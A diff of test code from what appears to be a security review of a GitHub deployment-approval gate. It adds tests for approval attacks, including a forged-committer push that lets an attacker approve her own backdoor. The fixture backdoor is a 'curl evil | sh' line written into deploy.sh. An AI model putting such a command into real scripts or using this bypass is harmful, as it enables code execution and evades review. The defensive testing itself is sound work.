@@ -10,7 +10,7 @@ import { gateDeployment, recordDeployment } from '../src/github/evaluate.js';
 import { createGitHub } from '../src/github/octokit.js';
 import { FakeGitHub } from './fake-github.js';
 import { conformantRepo } from './helpers.js';
-import { approvedInLog, GATE_CONFIG, RepositoryHistory, TEST_GATE } from './repository-history.js';
+import { approvedInLog, GATE_CONFIG, RepositoryHistory, review, TEST_GATE } from './repository-history.js';
 
 /**
  * A security review of the deployment gate as an attacker with write access to the repository (push to any
@@ -408,6 +408,46 @@ describe('new attacks on the App’s entries and the checkpoint statuses', () =>
     });
     // What should happen: a status naming an entry past the log's end is at least reported, never skipped.
     expect(believed).toBeUndefined();
+  });
+});
+
+describe('new attacks on approvals', () => {
+  // Found (documented in README's "What it relies on"): GitHub's API does not say who pushed an ordinary commit,
+  // so the gate infers the last pusher from the head's committer, which git lets the pusher write. Mallory pushes
+  // the backdoor onto Alice's pull request as "Alice" (author and committer), then approves it herself.
+  it.fails('SUCCEEDS: pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
+    const pr = repo.pullRequest({
+      number: 40,
+      author: 'alice',
+      change: (f) => ({ ...f, 'deploy.sh': 'curl evil | sh\n' }),
+      // The final head is Mallory's push; git says alice wrote and committed it (the fake's default: the author).
+      approvers: ['mallory'],
+    });
+    const decision = await gate(pr.mergeCommit!);
+    expect(decision.approved).toBe(false);
+  });
+
+  it('a reviewer who approved, was dismissed, and approves again on the final head counts once, as on GitHub', async () => {
+    const pr = repo.pullRequest({
+      number: 41,
+      change: (f) => ({ ...f, 'README.md': 'w\n' }),
+      reviews: (head, own) => [
+        { ...review('bob', own[0]!), id: 1, submitted_at: '2026-11-20T10:00:00Z' },
+        { ...review('bob', own[0]!, 'DISMISSED'), id: 2, submitted_at: '2026-11-20T11:00:00Z' },
+        { ...review('bob', head), id: 3, submitted_at: '2026-11-20T12:00:00Z' },
+      ],
+    });
+    expect(await gate(pr.mergeCommit!)).toMatchObject({ approved: true });
+    // Dismissed last: no approval.
+    pr.reviews.push({ ...review('bob', pr.head, 'DISMISSED'), id: 4, submitted_at: '2026-11-20T13:00:00Z' });
+    expect((await gate(pr.mergeCommit!)).approved).toBe(false);
+  });
+
+  it('a team member who left the team, or lost write access, no longer counts (read live)', async () => {
+    const pr = repo.pullRequest({ number: 42, change: retrain, approvers: ['alice', 'gov-lead'] });
+    expect((await gate(pr.mergeCommit!)).approved).toBe(true);
+    fake.answer('GET', '/orgs/acme/teams/ai-governance/members', [{ login: 'someone-else', id: 9 }]);
+    expect((await gate(pr.mergeCommit!)).approved).toBe(false);
   });
 });
 
